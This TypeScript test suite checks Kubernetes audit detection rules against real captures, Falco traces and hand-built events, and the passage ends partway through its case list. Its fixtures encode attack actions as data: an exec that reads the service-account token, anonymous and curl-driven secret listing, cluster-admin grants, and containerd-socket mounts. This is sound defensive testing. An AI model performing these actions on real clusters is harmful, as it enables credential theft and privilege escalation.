// The shipped system rules (rules/*.yaml) against the labelled real kube-apiserver capture, Falco's
// k8saudit traces, and small hand-built events modelled on real lines (one hit and one near miss per rule).
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseAuditLine, type AuditEvent } from '../parse/audit.ts';
import { CORPUS, falcoFiles, realApiserverFiles } from '../parse/test-corpus.ts';
import { ATTACK_CASES } from './attack-cases.ts';
import { IDENTITY_RULE_CASES } from './cases-identity.ts'; // run by identity-cases.test.ts
import { CATEGORY_MAP } from './categories.ts';
import { WORKLOAD_CASES } from './cases-workload.ts';
import { NOISE_CASES } from './cases-noise.ts';
import { DetectionEngine, type RuleHit } from './engine.ts';
import { compileRuleTexts, loadRuleFiles, type RuleSet } from './rules.ts';
import { auditEventOf } from './test-event.ts';

const RULES_DIR = path.resolve(import.meta.dirname, '../../rules');
const ruleFiles = () => readdirSync(RULES_DIR).filter((n) => n.endsWith('.yaml')).sort().map((n) => path.join(RULES_DIR, n));

const ALARM = new Set(['high', 'medium']);
const isAlarm = (h: RuleHit) => ALARM.has(h.level);

/** Labelled actions the system rules do not detect in their category, and why. */
const KNOWN_MISSES: Record<string, string> = {
  'atk-0023': 'refused RoleBinding (403 by RBAC) carries no body, so the anonymous subject is not visible (raises rbac-escalation low)',
  'atk-0043': 'refused pod (403 by RBAC) carries no body, so the hostPath is not visible (raises suspicious-container low: KA-CONT-012)',
  'atk-0069': 'core events deleted: the audit policy drops core events, the action left no audit event',
};

/**
 * High/medium hits on benign-labelled actions that are findings nonetheless. The admin's rollback of
 * storefront/cart (kubectl rollout undo, a JSON patch replacing the pod template) restored a template that still
 * has `privileged: true` (the revision CI made after the attacker's patch); request and response both show it.
 */
const KNOWN_BENIGN_HITS: Array<{ action: string; ruleId: string }> = [{ action: 'atk-0075', ruleId: 'KA-CONT-001' }];

/** Falco rule names (LABELS.json) mapped to kaudit categories; unlisted names are activity or allowlist rules. */
const FALCO_MAP: Record<string, string> = {
  'Anonymous Request Allowed': 'anonymous-access',
  'Attach to cluster-admin Role': 'rbac-escalation',
  'Attach/Exec Pod': 'command-execution',
  'ClusterRole With Pod Exec Created': 'rbac-escalation',
  'ClusterRole With Wildcard Created': 'rbac-escalation',
  'Create HostNetwork Pod': 'suspicious-container',
  'Create Privileged Pod': 'suspicious-container',
  'Create Sensitive Mount Pod': 'sensitive-mount',
  'Create NodePort Service': 'exposure',
  'Pod Created in Kube Namespace': 'suspicious-container',
  'System ClusterRole Modified/Deleted': 'rbac-escalation',
  'Create/Modify Configmap With Private Credentials': 'credential-access',
};

/** Falco expectations the system rules deliberately do not share. */
const FALCO_DIFFERENCES: Record<string, string> = {
  'create_pod_kube_system_namespace.json': 'the pod is created by kube-system:replicaset-controller; KA-CONT-008 alarms on the person\'s workload write, not on controllers (system_noise)',
  'create_pod_kube_public_namespace.json': 'the pod is created by kube-system:replicaset-controller; KA-CONT-008 alarms on the person\'s workload write, not on controllers (system_noise)',
};

interface LabelledAction {
  id: string;
  category: string;
  actor: string;
  resource: string;
  auditIDs: string[];
  derived_auditIDs?: string[];
}

let ruleSet: RuleSet;
beforeAll(() => {
  ruleSet = loadRuleFiles(ruleFiles());
});

describe('rule guards', () => {
  it('skip only rules that could not have matched: every hit on the real capture is the same without them', () => {
    const unguarded: RuleSet = { ...ruleSet, rules: ruleSet.rules.map((r) => ({ ...r, onlyVerbs: undefined, onlyResources: undefined, onlyCodes: undefined, guards: [] })) };
    expect(ruleSet.rules.filter((r) => r.onlyVerbs || r.onlyResources).length).toBeGreaterThan(30);
    expect(ruleSet.rules.filter((r) => r.onlyCodes).length).toBeGreaterThan(20);
    expect(ruleSet.rules.filter((r) => r.guards.some((g) => !g.holds)).length).toBeGreaterThan(40);
    const guarded = new DetectionEngine(ruleSet, { clusterName: 't', clusterId: '' });
    const plain = new DetectionEngine(unguarded, { clusterName: 't', clusterId: '' });
    const lines = realApiserverFiles().flatMap((f) => f.lines);
    let hits = 0;
    for (const line of lines) {
      const parsed = parseAuditLine(line);
      if (!parsed.ok) continue;
      const a = guarded.hits(parsed.event).map((h) => `${h.ruleId}/${h.auditID}`);
      const again = parseAuditLine(line);
      const b = again.ok ? plain.hits(again.event).map((h) => `${h.ruleId}/${h.auditID}`) : [];
      expect(a).toEqual(b);
      hits += a.length;
    }
    expect(hits).toBeGreaterThan(50);
  });
});

describe('system rule files', () => {
  it('load and compile, every rule enabled, documented and in a known category at a known level', () => {
    expect(ruleFiles().length).toBeGreaterThan(0);
    expect(ruleSet.rules.length).toBeGreaterThan(40);
    for (const r of ruleSet.rules) {
      expect(r.type, r.id).toBe('system');
      expect(r.enabled, r.id).toBe(true);
      expect(r.risk.length, r.id).toBeGreaterThan(20);
      expect(r.solution.length, r.id).toBeGreaterThan(20);
      expect(r.description.length, r.id).toBeGreaterThan(10);
    }
    const categories = new Set(ruleSet.rules.map((r) => r.category));
    for (const c of ['anonymous-access', 'abnormal-user-agent', 'anonymous-permission-change', 'credential-access', 'sensitive-mount',
      'command-execution', 'abnormal-cronjob', 'static-pod', 'suspicious-container']) {
      expect(categories.has(c), c).toBe(true);
    }
  });
});

describe('real kube-apiserver capture', () => {
  const hitsByID = new Map<string, RuleHit[]>();
  let actions: LabelledAction[] = [];
  let events = 0;

  beforeAll(() => {
    const files = realApiserverFiles();
    expect(files).toHaveLength(12);
    expect(files.filter((f) => f.name.endsWith('.gz'))).toHaveLength(3);
    const engine = new DetectionEngine(ruleSet, { clusterName: 'test', clusterId: '' });
    for (const f of files) {
      for (const line of f.lines) {
        const r = parseAuditLine(line);
        if (!r.ok) throw new Error(`${f.name}: ${r.error}`);
        events++;
        for (const h of engine.hits(r.event)) {
          let list = hitsByID.get(h.auditID);
          if (list === undefined) hitsByID.set(h.auditID, (list = []));
          list.push(h);
        }
      }
    }
    actions = readFileSync(path.join(CORPUS, 'real-apiserver', 'ground-truth.jsonl'), 'utf8')
      .split('\n').filter((l) => l.length > 0).map((l) => JSON.parse(l) as LabelledAction);
  });

  const idsOf = (a: LabelledAction) => [...a.auditIDs, ...(a.derived_auditIDs ?? [])];
  const hitsOf = (a: LabelledAction) => idsOf(a).flatMap((id) => hitsByID.get(id) ?? []);

  it('detects each suspicious action in its category, except the known misses', () => {
    expect(events).toBe(6103);
    const suspicious = actions.filter((a) => a.category !== 'benign');
    expect(suspicious).toHaveLength(65);
    const rows = new Map<string, { total: number; detected: number; missed: string[] }>();
    const undetected: string[] = [];
    for (const a of suspicious) {
      const want = CATEGORY_MAP[a.category];
      expect(want, `no kaudit category for ${a.category}`).toBeDefined();
      const found = hitsOf(a).some((h) => h.category === want);
      const row = rows.get(a.category) ?? { total: 0, detected: 0, missed: [] };
      row.total++;
      if (found) row.detected++;
      else {
        row.missed.push(a.id);
        undetected.push(a.id);
      }
      rows.set(a.category, row);
    }
    const detected = suspicious.length - undetected.length;
    console.log('recall per category (real kube-apiserver capture):');
    console.table(Object.fromEntries([...rows].map(([c, r]) => [c, {
      kaudit: CATEGORY_MAP[c], detected: `${r.detected}/${r.total}`, recall: Number((r.detected / r.total).toFixed(2)), missed: r.missed.join(' '),
    }])));
    console.log(`actions detected: ${detected}/${suspicious.length}`);
    for (const id of undetected) console.log(`  missed ${id}: ${KNOWN_MISSES[id] ?? 'UNEXPLAINED'}`);

    expect(undetected.sort()).toEqual(Object.keys(KNOWN_MISSES).sort());
    expect(detected / suspicious.length).toBeGreaterThanOrEqual(0.93);
    // Every category is covered, most in full.
    for (const [c, r] of rows) expect(r.detected, c).toBeGreaterThan(0);
  });

  it('raises no high or medium alarm on benign look-alikes, apart from the documented finding', () => {
    const benign = actions.filter((a) => a.category === 'benign');
    expect(benign).toHaveLength(273);
    const alarms: Array<{ action: string; ruleId: string; summary: string }> = [];
    for (const a of benign) for (const h of hitsOf(a).filter(isAlarm)) alarms.push({ action: a.id, ruleId: h.ruleId, summary: h.summary });
    console.log(`false alarms on benign actions: ${alarms.length}`, alarms);
    expect(alarms.map(({ action, ruleId }) => ({ action, ruleId }))).toEqual(KNOWN_BENIGN_HITS);
  });

  it('keeps the kubelets\' pod-bound TokenRequests and mirror pods, the benign CronJobs, Jobs and kubectl logs silent (a person\'s CronJob: low notes only)', () => {
    const benign = actions.filter((a) => a.category === 'benign');
    const kubelet = benign.filter((a) => a.actor.startsWith('system:node:'));
    expect(kubelet.length).toBeGreaterThanOrEqual(80);
    for (const a of kubelet) expect(hitsOf(a), a.id).toEqual([]);

    const quiet = benign.filter((a) => ['cronjobs', 'jobs', 'pods/log'].includes(a.resource));
    expect(quiet.length).toBeGreaterThanOrEqual(20);
    // A CronJob made by hand, from the corporate registry: the low notes on both, nothing else.
    const handMade = new Set(['KA-CRON-006', 'KA-CONT-016']);
    for (const a of quiet) expect(hitsOf(a).filter((h) => !handMade.has(h.ruleId) || h.level !== 'low'), a.id).toEqual([]);
    expect(quiet.some((a) => hitsOf(a).some((h) => h.ruleId === 'KA-CRON-006'))).toBe(true);
  });

  it('notes the monitoring DaemonSet\'s /var/log/pods mount, that a person created it, and right after a binding, at low level only', () => {
    const daemonSet = actions.find((a) => a.id === 'boot-0005')!;
    expect(hitsOf(daemonSet).map((h) => `${h.ruleId}/${h.level}`).sort()).toEqual(['KA-CONT-017/low', 'KA-MOUNT-002/low', 'KA-RBAC-011/low']);
  });

  it('raises almost no high or medium alarm on events outside the labelled actions', () => {
    const linked = new Set(actions.flatMap(idsOf));
    const noise: RuleHit[] = [];
    let low = 0;
    for (const [id, hs] of hitsByID) {
      if (linked.has(id)) continue;
      noise.push(...hs.filter(isAlarm));
      low += hs.filter((h) => !isAlarm(h)).length;
    }
    console.log(`high/medium alarms on unlabelled events: ${noise.length}; low/note: ${low}`, noise.map((h) => `${h.ruleId} ${h.summary}`));
    expect(noise.length).toBeLessThan(5);
  });
});

interface FalcoTest { detect: boolean; detect_counts: Record<string, number>; rules_files: string[] }

describe('Falco k8saudit traces', () => {
  const labels = JSON.parse(readFileSync(path.join(CORPUS, 'falco', 'LABELS.json'), 'utf8')) as Array<{ file: string; tests: FalcoTest[] }>;

  function hitsOfFile(name: string): RuleHit[] {
    const file = falcoFiles().find((f) => f.name === name);
    if (file === undefined) throw new Error(`missing ${name}`);
    const engine = new DetectionEngine(ruleSet, { clusterName: 'test', clusterId: '' });
    const out: RuleHit[] = [];
    for (const text of file.objects) {
      const r = parseAuditLine(JSON.stringify(JSON.parse(text)));
      if (r.ok) out.push(...engine.hits(r.event));
    }
    return out;
  }

  // Falco's pod traces are pods created by the ReplicaSet controller: kaudit alarms on the person's workload write
  // and only notes (level note) the dangerous settings of controller-created pods, so any level counts here.
  it('raises the mapped category for every file Falco detects with a mapped rule', () => {
    let checked = 0;
    for (const { file, tests } of labels) {
      const want = new Set(tests.filter((t) => t.detect).flatMap((t) => Object.keys(t.detect_counts)).map((n) => FALCO_MAP[n]).filter((c) => c !== undefined));
      if (want.size === 0 || FALCO_DIFFERENCES[file]) continue;
      const got = new Set(hitsOfFile(file).map((h) => h.category));
      for (const c of want) expect(got.has(c), `${file}: ${c}`).toBe(true);
      checked++;
    }
    expect(checked).toBeGreaterThanOrEqual(15);
  });

  it('raises no high or medium alarm on the files no Falco rule may fire on', () => {
    const negatives = labels.filter(({ tests }) => tests.every((t) => !t.detect || Object.keys(t.detect_counts).every((n) => FALCO_MAP[n] === undefined))
      && tests.some((t) => !t.detect));
    expect(negatives.map((n) => n.file)).toEqual(expect.arrayContaining([
      'create_kube_system_secret.json', 'create_nginx_pod_nohostnetwork.json', 'create_nginx_pod_unprivileged.json',
      'create_nginx_pod_unsensitive_mount.json', 'create_service_account_token_secret.json', 'create_nginx_service_nonodeport.json',
      'create_configmap_no_sensitive_values.json', 'fal_01_003.json',
    ]));
    for (const { file } of negatives) expect(hitsOfFile(file).filter(isAlarm), file).toEqual([]);
  });

  it('rejects fal_01_003.json, which is not an audit event', () => {
    const file = falcoFiles().find((f) => f.name === 'fal_01_003.json')!;
    const parsed = file.objects.map((t) => parseAuditLine(JSON.stringify(JSON.parse(t))));
    expect(parsed.every((p) => !p.ok)).toBe(true);
  });

  it('documents each deliberate difference with a file that exists', () => {
    for (const f of Object.keys(FALCO_DIFFERENCES)) expect(labels.some((l) => l.file === f), f).toBe(true);
  });
});

// ---------- hand-built events, one rule at a time ----------

let seq = 0;
type Over = Record<string, unknown>;

/** An audit event shaped like the real capture's (kubectl as the stolen breakglass user by default). */
function ev(over: Over): AuditEvent {
  const base: Over = {
    kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', auditID: `00000000-0000-4000-8000-${String(++seq).padStart(12, '0')}`,
    stage: 'ResponseComplete', requestURI: '/api/v1/namespaces/payments/pods', verb: 'create',
    user: { username: 'breakglass', groups: ['system:masters', 'breakglass', 'system:authenticated'] },
    sourceIPs: ['127.0.0.143'], userAgent: 'kubectl/v1.26.1 (linux/amd64) kubernetes/8f94681',
    objectRef: { resource: 'pods', namespace: 'payments', apiVersion: 'v1' },
    responseStatus: { metadata: {}, code: 201 },
    requestReceivedTimestamp: '2026-11-22T12:10:00.000000Z', stageTimestamp: '2026-11-22T12:10:00.010000Z',
    annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': '' },
  };
  return auditEventOf(base, over);
}

const anonymous = { user: { username: 'system:anonymous', groups: ['system:unauthenticated'] }, sourceIPs: ['127.0.0.201'], userAgent: 'curl/8.4.0' };
const mallory = { user: { username: 'mallory', groups: ['contractors', 'system:authenticated'] } };
const node2 = { user: { username: 'system:node:node-2', groups: ['system:nodes', 'system:authenticated'] }, userAgent: 'kubelet/v1.26.1 (linux/amd64) kubernetes/8f94681' };
const node1 = { user: { username: 'system:node:node-1', groups: ['system:nodes', 'system:authenticated'] }, userAgent: 'kubelet/v1.26.1 (linux/amd64) kubernetes/8f94681', sourceIPs: ['127.0.0.51'] };
function lease(name: string, namespace = 'kube-node-lease', extra: Over = {}): Over {
  return { verb: 'update', level: 'Metadata', requestURI: `/apis/coordination.k8s.io/v1/namespaces/${namespace}/leases/${name}?timeout=10s`, objectRef: { resource: 'leases', namespace, name, apiGroup: 'coordination.k8s.io', apiVersion: 'v1' }, ...ok(), ...extra };
}
/** A kubelet's pod delete as in the capture: DeleteOptions with a UID precondition, the Pod (with its node) in the response. */
function podDelete(nodeName: string, extra: Over = {}): Over {
  return {
    verb: 'delete', requestURI: '/api/v1/namespaces/web-frontend/pods/frontend-7d9c-abcde', objectRef: { resource: 'pods', namespace: 'web-frontend', name: 'frontend-7d9c-abcde', apiVersion: 'v1' },
    requestObject: { kind: 'DeleteOptions', apiVersion: 'meta.k8s.io/__internal', gracePeriodSeconds: 0, preconditions: { uid: '27b93f4b-fc1e-4863-85db-e9de5174c383' } },
    responseObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'frontend-7d9c-abcde', namespace: 'web-frontend' }, spec: { nodeName, containers: [{ name: 'web', image: 'nginx' }] } }, ...ok(), ...extra,
  };
}
// With --use-service-account-credentials, each controller names itself after the controller manager (as in the capture).
const controller = (name: string) => ({ user: { username: `system:serviceaccount:kube-system:${name}`, groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'] }, sourceIPs: ['127.0.0.1'], userAgent: `kube-controller-manager/v1.26.1 (linux/amd64) kubernetes/8f94681/system:serviceaccount:kube-system:${name}` });
const forbidden = (message: string) => ({ responseStatus: { metadata: {}, status: 'Failure', message, reason: 'Forbidden', code: 403 }, annotations: { 'authorization.k8s.io/decision': 'forbid', 'authorization.k8s.io/reason': '' } });
const ok = (code = 200) => ({ responseStatus: { metadata: {}, code } });

function get(resource: string, namespace: string | undefined, extra: Over = {}): Over {
  return { verb: 'get', level: 'Request', objectRef: { resource, ...(namespace ? { namespace } : {}), apiVersion: 'v1' }, ...ok(), ...extra };
}
function podSpec(spec: Over, meta: Over = {}): Over {
  return { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'p', namespace: 'payments', ...meta }, spec: { containers: [{ name: 'c', image: 'docker.io/library/nginx:1.25' }], ...spec } };
}
function createPod(spec: Over, meta: Over = {}, extra: Over = {}): Over {
  const body = podSpec(spec, meta);
  const ns = (meta.namespace as string | undefined) ?? 'payments';
  return { requestURI: `/api/v1/namespaces/${ns}/pods`, objectRef: { resource: 'pods', namespace: ns, name: 'p', apiVersion: 'v1' }, requestObject: body, responseObject: body, ...ok(201), ...extra };
}
function deployment(podTemplateSpec: Over): Over {
  return { kind: 'Deployment', apiVersion: 'apps/v1', metadata: { name: 'd', namespace: 'web-frontend' }, spec: { template: { spec: { containers: [{ name: 'c', image: 'nginx' }], ...podTemplateSpec } } } };
}
function createDeployment(podTemplateSpec: Over, extra: Over = {}): Over {
  const body = deployment(podTemplateSpec);
  return { requestURI: '/apis/apps/v1/namespaces/web-frontend/deployments', objectRef: { resource: 'deployments', namespace: 'web-frontend', name: 'd', apiGroup: 'apps', apiVersion: 'v1' }, requestObject: body, responseObject: body, ...ok(201), ...extra };
}
function cronJob(schedule: string, container: Over, templateSpec: Over = {}, namespace = 'payments'): Over {
  const body = { kind: 'CronJob', apiVersion: 'batch/v1', metadata: { name: 'cj', namespace }, spec: { schedule, jobTemplate: { spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'task', ...container }], ...templateSpec } } } } } };
  return { requestURI: `/apis/batch/v1/namespaces/${namespace}/cronjobs`, objectRef: { resource: 'cronjobs', namespace, name: 'cj', apiGroup: 'batch', apiVersion: 'v1' }, requestObject: body, responseObject: body, ...ok(201) };
}
function binding(kind: 'RoleBinding' | 'ClusterRoleBinding', roleRef: string, subjects: Over[], extra: Over = {}): Over {
  const resource = kind === 'RoleBinding' ? 'rolebindings' : 'clusterrolebindings';
  const body = { kind, apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name: 'b' }, subjects, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: roleRef } };
  return { requestURI: `/apis/rbac.authorization.k8s.io/v1/${resource}`, objectRef: { resource, name: 'b', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1', ...(kind === 'RoleBinding' ? { namespace: 'payments' } : {}) }, requestObject: body, responseObject: body, ...ok(201), ...extra };
}
function clusterRole(rules: Over[], extra: Over = {}): Over {
  const body = { kind: 'ClusterRole', apiVersion: 'rbac.authorization.k8s.io/v1', metadata: { name: 'r' }, rules };
  return { requestURI: '/apis/rbac.authorization.k8s.io/v1/clusterroles', objectRef: { resource: 'clusterroles', name: 'r', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' }, requestObject: body, responseObject: body, ...ok(201), ...extra };
}
function service(spec: Over, extra: Over = {}): Over {
  const body = { kind: 'Service', apiVersion: 'v1', metadata: { name: 's', namespace: 'payments' }, spec: { ports: [{ port: 5432 }], ...spec } };
  return { requestURI: '/api/v1/namespaces/payments/services', objectRef: { resource: 'services', namespace: 'payments', name: 's', apiVersion: 'v1' }, requestObject: body, responseObject: body, ...ok(201), ...extra };
}
function exec(verb: 'create' | 'get', code: number, extra: Over = {}): Over {
  return {
    verb, level: verb === 'get' ? 'Request' : 'RequestResponse',
    requestURI: '/api/v1/namespaces/payments/pods/report-gen-d7d67cfb6-tbqjw/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=app&stderr=true&stdout=true',
    objectRef: { resource: 'pods', namespace: 'payments', name: 'report-gen-d7d67cfb6-tbqjw', apiVersion: 'v1', subresource: 'exec' },
    responseStatus: { metadata: {}, code }, ...extra,
  };
}
const privilegedCart = deployment({ containers: [{ name: 'cart', image: 'registry.corp.example/shop/cart:7.1.76', securityContext: { privileged: true } }] });
function patchCart(requestObject: unknown): Over {
  return { verb: 'patch', requestURI: '/apis/apps/v1/namespaces/storefront/deployments/cart?fieldManager=kubectl-patch', objectRef: { resource: 'deployments', namespace: 'storefront', name: 'cart', apiGroup: 'apps', apiVersion: 'v1' }, requestObject, responseObject: privilegedCart, ...ok() };
}

interface Case { rule: string; behaviour: string; hit: Over; miss: Over; missWhy: string }

const CASES: Case[] = [
  { rule: 'KA-ANON-001', behaviour: 'an anonymous secrets list that succeeded', hit: { ...anonymous, ...get('secrets', 'payments', { verb: 'list', requestURI: '/api/v1/namespaces/payments/secrets' }) },
    miss: { ...anonymous, verb: 'get', requestURI: '/livez?verbose', objectRef: undefined, ...ok() }, missWhy: 'an anonymous health check' },
  { rule: 'KA-ANON-002', behaviour: 'an anonymous configmaps list refused', hit: { ...anonymous, ...get('configmaps', 'kube-system', { verb: 'list', requestURI: '/api/v1/namespaces/kube-system/configmaps', ...forbidden('configmaps is forbidden') }) },
    miss: { ...anonymous, verb: 'get', requestURI: '/readyz', objectRef: undefined, ...forbidden('forbidden') }, missWhy: 'a refused readiness probe' },
  { rule: 'KA-ANON-003', behaviour: 'an anonymous /livez?verbose', hit: { ...anonymous, verb: 'get', requestURI: '/livez?verbose', objectRef: undefined, ...ok() },
    miss: { ...anonymous, verb: 'get', requestURI: '/readyz', objectRef: undefined, userAgent: 'curl/7.88.1', ...ok() }, missWhy: 'a bare readiness probe' },
  { rule: 'KA-UA-001', behaviour: 'a zgrab probe of /', hit: { ...anonymous, userAgent: 'Mozilla/5.0 zgrab/0.x', verb: 'get', requestURI: '/', objectRef: undefined, ...forbidden('forbidden') },
    miss: { ...anonymous, verb: 'get', requestURI: '/', objectRef: undefined, userAgent: 'kubectl/v1.26.1 (linux/amd64) kubernetes/8f94681', ...forbidden('forbidden') }, missWhy: 'the same probe from kubectl' },
  { rule: 'KA-UA-002', behaviour: 'wget listing configmaps with a user token', hit: { ...mallory, userAgent: 'Wget/1.21.3', ...get('configmaps', 'payments', { verb: 'list' }) },
    miss: { ...mallory, userAgent: 'Wget/1.21.3', ...get('endpointslices', 'payments', { verb: 'list' }) }, missWhy: 'wget listing endpointslices' },
  { rule: 'KA-UA-003', behaviour: 'curl refused on secrets', hit: { ...mallory, userAgent: 'curl/8.4.0', ...get('secrets', 'kube-system', { verb: 'list', ...forbidden('secrets is forbidden') }) },
    miss: { ...mallory, userAgent: 'kubectl/v1.26.1 (linux/amd64) kubernetes/8f94681', ...get('secrets', 'kube-system', { verb: 'list', ...forbidden('secrets is forbidden') }) }, missWhy: 'kubectl refused on secrets' },
  { rule: 'KA-UA-003', behaviour: 'python-requests refused authentication on API discovery', hit: { user: {}, userAgent: 'python-requests/2.31.0', verb: 'get', requestURI: '/apis', objectRef: undefined, stage: 'ResponseStarted', responseStatus: { metadata: {}, status: 'Failure', reason: 'Unauthorized', code: 401 } },
    miss: { user: {}, userAgent: 'python-requests/2.31.0', verb: 'get', requestURI: '/readyz', objectRef: undefined, stage: 'ResponseStarted', responseStatus: { metadata: {}, status: 'Failure', reason: 'Unauthorized', code: 401 } }, missWhy: 'the same client failing on a readiness probe' },
  { rule: 'KA-BRUTE-003', behaviour: 'a request with a revoked token (401)', hit: { user: {}, verb: 'list', requestURI: '/api/v1/namespaces/payments/configmaps', objectRef: undefined, stage: 'ResponseStarted', responseStatus: { metadata: {}, status: 'Failure', reason: 'Unauthorized', code: 401 } },
    miss: { ...mallory, ...get('configmaps', 'payments', { verb: 'list', ...forbidden('configmaps is forbidden') }) }, missWhy: 'a request refused by authorization (403)' },
  { rule: 'KA-UA-005', behaviour: 'kubectl with a workload token listing secrets', hit: { user: { username: 'system:serviceaccount:payments:report-gen', groups: ['system:serviceaccounts'] }, userAgent: 'kubectl/v1.30.2 (linux/amd64) kubernetes/abc', ...get('secrets', 'payments', { verb: 'list' }) },
    miss: { user: { username: 'system:serviceaccount:payments:report-gen', groups: ['system:serviceaccounts'] }, userAgent: 'report-gen/1.4 (linux/amd64) kubernetes/abc', ...get('secrets', 'payments', { verb: 'list' }) }, missWhy: 'the workload\'s own client' },
  { rule: 'KA-EXPOSE-002', behaviour: 'a refused login from a public address', hit: { user: {}, userAgent: 'python-requests/2.31', sourceIPs: ['198.51.100.23'], verb: 'get', requestURI: '/api/v1/namespaces/kube-system/secrets', objectRef: undefined, stage: 'ResponseStarted', responseStatus: { metadata: {}, status: 'Failure', reason: 'Unauthorized', code: 401 } },
    miss: { user: {}, userAgent: 'python-requests/2.31', sourceIPs: ['198.51.100.23', '10.0.3.4'], verb: 'get', requestURI: '/api/v1/namespaces/kube-system/secrets', objectRef: undefined, stage: 'ResponseStarted', responseStatus: { metadata: {}, status: 'Failure', reason: 'Unauthorized', code: 401 } }, missWhy: 'the same request whose peer is inside (the public address only in X-Forwarded-For)' },
  { rule: 'KA-ANONPERM-001', behaviour: 'a RoleBinding to system:anonymous', hit: binding('RoleBinding', 'view', [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'system:anonymous' }]),
    miss: binding('RoleBinding', 'view', [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'raj@corp.example' }]), missWhy: 'a RoleBinding to a named user' },
  { rule: 'KA-ANONPERM-002', behaviour: 'cluster-admin granted to system:authenticated', hit: binding('ClusterRoleBinding', 'cluster-admin', [{ kind: 'Group', apiGroup: 'rbac.authorization.k8s.io', name: 'system:authenticated' }]),
    miss: binding('ClusterRoleBinding', 'system:basic-user', [{ kind: 'Group', apiGroup: 'rbac.authorization.k8s.io', name: 'system:authenticated' }]), missWhy: 'a basic role granted to system:authenticated' },
  { rule: 'KA-CRED-001', behaviour: 'a stolen workload token listing secrets', hit: { user: { username: 'system:serviceaccount:payments:report-gen', groups: ['system:serviceaccounts'] }, userAgent: 'curl/8.4.0', ...get('secrets', 'payments', { verb: 'list' }) },
    miss: { ...controller('generic-garbage-collector'), ...get('secrets', undefined, { verb: 'list' }) }, missWhy: 'a kube-system controller listing secrets' },
  { rule: 'KA-CRED-002', behaviour: 'a kube-system secret read by a person', hit: get('secrets', 'kube-system', { objectRef: { resource: 'secrets', namespace: 'kube-system', name: 'etcd-backup-s3', apiVersion: 'v1' } }),
    miss: { user: { username: 'gitlab-ci', groups: ['ci-runners'] }, ...get('secrets', 'storefront', { objectRef: { resource: 'secrets', namespace: 'storefront', name: 'registry-pull', apiVersion: 'v1' } }) }, missWhy: 'CI reading a secret of its application namespace' },
  { rule: 'KA-CRED-003', behaviour: 'a cluster-wide secrets list refused', hit: { ...mallory, ...get('secrets', undefined, { verb: 'list', ...forbidden('secrets is forbidden') }) },
    miss: { ...mallory, ...get('configmaps', undefined, { verb: 'list', ...forbidden('configmaps is forbidden') }) }, missWhy: 'a refused configmaps list' },
  { rule: 'KA-CRED-004', behaviour: 'a person minting a service-account token', hit: { level: 'Metadata', requestURI: '/api/v1/namespaces/kube-system/serviceaccounts/namespace-controller/token', objectRef: { resource: 'serviceaccounts', namespace: 'kube-system', name: 'namespace-controller', apiVersion: 'v1', subresource: 'token' }, ...ok(201) },
    miss: { ...node2, level: 'Metadata', requestURI: '/api/v1/namespaces/payments/serviceaccounts/flagd/token', objectRef: { resource: 'serviceaccounts', namespace: 'payments', name: 'flagd', apiVersion: 'v1', subresource: 'token' }, ...ok(201) }, missWhy: 'a kubelet\'s pod-bound TokenRequest' },
  { rule: 'KA-CRED-005', behaviour: 'a TokenRequest refused', hit: { ...mallory, level: 'Metadata', objectRef: { resource: 'serviceaccounts', namespace: 'payments', name: 'report-gen', apiVersion: 'v1', subresource: 'token' }, ...forbidden('cannot create resource "serviceaccounts/token"') },
    miss: { ...mallory, level: 'Metadata', objectRef: { resource: 'serviceaccounts', namespace: 'payments', name: 'report-gen', apiVersion: 'v1' }, ...forbidden('cannot create resource "serviceaccounts"') }, missWhy: 'a refused ServiceAccount create' },
  { rule: 'KA-CRED-006', behaviour: 'a person approving a CSR', hit: { verb: 'update', objectRef: { resource: 'certificatesigningrequests', name: 'csr-x', apiGroup: 'certificates.k8s.io', apiVersion: 'v1', subresource: 'approval' }, ...ok() },
    miss: { ...controller('certificate-controller'), verb: 'update', objectRef: { resource: 'certificatesigningrequests', name: 'csr-x', apiGroup: 'certificates.k8s.io', apiVersion: 'v1', subresource: 'approval' }, ...ok() }, missWhy: 'the CSR approving controller' },
  { rule: 'KA-CRED-008', behaviour: 'CI reading a secret of its namespace', hit: { user: { username: 'gitlab-ci', groups: ['ci-runners'] }, ...get('secrets', 'storefront') },
    miss: { ...node2, ...get('secrets', 'storefront') }, missWhy: 'a kubelet reading a pod\'s secret' },
  { rule: 'KA-CRED-009', behaviour: 'a ConfigMap created with an AWS secret key in a properties value',
    hit: { verb: 'create', objectRef: { resource: 'configmaps', namespace: 'payments', name: 'app-config', apiVersion: 'v1' }, ...ok(),
      requestObject: { kind: 'ConfigMap', apiVersion: 'v1', metadata: { name: 'app-config' }, data: { 'access.properties': 'aws_access_key_id = AKIA…\naws_secret_access_key = …\n', 'ui.properties': 'color=blue\n' } } },
    miss: { verb: 'create', objectRef: { resource: 'configmaps', namespace: 'payments', name: 'app-config', apiVersion: 'v1' }, ...ok(),
      requestObject: { kind: 'ConfigMap', apiVersion: 'v1', metadata: { name: 'app-config' }, data: { 'ui.properties': 'color.good=purple\nallow.textmode=true\n' } } },
    missWhy: 'a ConfigMap with plain settings' },
  { rule: 'KA-MOUNT-001', behaviour: 'a Deployment mounting the containerd socket', hit: createDeployment({ volumes: [{ name: 'sock', hostPath: { path: '/run/containerd/containerd.sock', type: 'Socket' } }] }),
    miss: createDeployment({ volumes: [{ name: 'data', hostPath: { path: '/srv/data' } }] }), missWhy: 'a Deployment mounting /srv/data' },
  { rule: 'KA-MOUNT-002', behaviour: 'a DaemonSet mounting /var/log/pods', hit: createDeployment({ volumes: [{ name: 'podlogs', hostPath: { path: '/var/log/pods' } }] }),
